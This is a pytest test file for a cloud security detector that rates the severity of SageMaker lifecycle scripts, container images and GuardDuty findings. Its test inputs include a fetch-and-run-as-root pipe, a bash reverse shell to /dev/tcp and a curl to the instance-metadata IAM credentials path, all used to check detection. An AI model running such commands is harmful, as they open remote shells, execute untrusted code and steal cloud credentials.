"""What cases can't say about sagemaker_code_execution: registries, scripts, memory."""

from __future__ import annotations

import base64

import pytest
from detection_builders import ACCOUNT, World, a_session, a_threat, an_api_call
from hypothesis import given
from hypothesis import strategies as st

from tidegate.detectors.about import Known
from tidegate.detectors.sagemaker_code_execution import Memory, detect, subjects
from tidegate.detectors.sagemaker_registries import repository_of, stranger
from tidegate.model import Severity

DAY = 86_400
OWN = f"{ACCOUNT}.dkr.ecr.eu-west-1.amazonaws.com/team/train"


@pytest.mark.parametrize(
    ("image", "repository", "whose"),
    [
        (f"{OWN}:3", OWN, ""),
        (f"{OWN}@sha256:{'0' * 64}", OWN, ""),
        ("444455556666.dkr.ecr.eu-west-1.amazonaws.com/x", "444455556666.dkr.ecr.eu-west-1.amazonaws.com/x", "account"),
        ("763104351884.dkr.ecr.eu-west-1.amazonaws.com/pytorch:2", None, ""),
        ("registry.example.com:5000/x:1", "registry.example.com:5000/x", "a registry outside"),
        ("", "", ""),
    ],
)
def test_whose_registry_and_which_repository(image, repository, whose):
    assert repository in (None, repository_of(image))
    assert stranger(image, ACCOUNT).startswith(whose)
    assert bool(stranger(image, ACCOUNT)) is bool(whose)


@pytest.mark.parametrize(
    ("script", "severity"),
    [
        ("pip install pandas", Severity.MEDIUM),
        ("curl https://files.example.com/setup.tar.gz -o /tmp/setup.tar.gz", Severity.MEDIUM),
        ("wget -qO- 198.51.100.4/a|sudo sh", Severity.HIGH),
        ("bash -i >& /dev/tcp/198.51.100.4/443 0>&1", Severity.HIGH),
        ("curl 169.254.169.254/latest/meta-data/iam/security-credentials/", Severity.HIGH),
    ],
)
@pytest.mark.parametrize("encode", [True, False], ids=["base64", "in the clear"])
def test_what_a_script_does_decides_how_grave_it_is(script, severity, encode):
    content = base64.b64encode(script.encode()).decode() if encode else script
    parameters = {"notebookInstanceLifecycleConfigName": "setup", "onStart": [{"content": content}]}
    world = World()
    world.see(an_api_call("CreateNotebookInstanceLifecycleConfig", "sagemaker", parameters=parameters))

    assert [finding.severity for finding in world.found] == [severity]


def _job(at: float, image: str = f"{OWN}:1", **more):
    parameters = {"roleArn": f"arn:aws:iam::{ACCOUNT}:role/T", "appSpecification": {"imageUri": image}}
    return an_api_call("CreateProcessingJob", "sagemaker", at=at, parameters=parameters, **more)


def test_an_image_of_a_stranger_is_news_once_a_role():
    world = World()
    for day in range(3):
        world.see(_job(day * DAY, "444455556666.dkr.ecr.us-east-1.amazonaws.com/x:1"))

    assert len(world.found) == 1


def test_who_passes_a_role_is_kept_small():
    world = World()
    for day in range(60):
        world.see(_job(day * DAY, f"{OWN}-{day}:1", principal=a_session(f"Team{day}")))

    assert max(len(stored.data) for stored in world.states._stored.values()) < 700


def test_what_guardduty_saw_in_sagemaker_is_raised_and_the_rest_is_not_asked():
    world = World()
    world.see(a_threat("Execution:SageMaker/CommandAndScriptingInterpreter"), a_threat(finding="f-2"))

    assert [finding.evidence["guardduty_type"] for finding in world.found if finding.detector.startswith("sage")] == [
        "Execution:SageMaker/CommandAndScriptingInterpreter"
    ]
    assert not list(subjects(a_threat(), Known()))


@given(st.sampled_from(["CreateModel", "CreateTrainingJob", "UpdateNotebookInstanceLifecycleConfig"]), st.data())
def test_no_request_is_too_odd(name, data):
    names = (
        "roleArn executionRoleArn primaryContainer containers image onStart content algorithmSpecification "
        "trainingImage trainingJobDefinition appSpecification notebookInstanceLifecycleConfigName"
    )
    keys = st.sampled_from(names.split())
    odd = st.recursive(
        st.none() | st.integers() | st.text(max_size=9),
        lambda inner: st.lists(inner, max_size=3) | st.dictionaries(keys, inner, max_size=4),
        max_leaves=8,
    )
    call = an_api_call(name, "sagemaker", parameters=data.draw(st.dictionaries(keys, odd, max_size=5)))

    assert all(subject.startswith("sagemaker:") for subject in subjects(call, Known()))
    assert all(signal.facts["severity_from"] for signal in detect([call], Memory(), Known()))
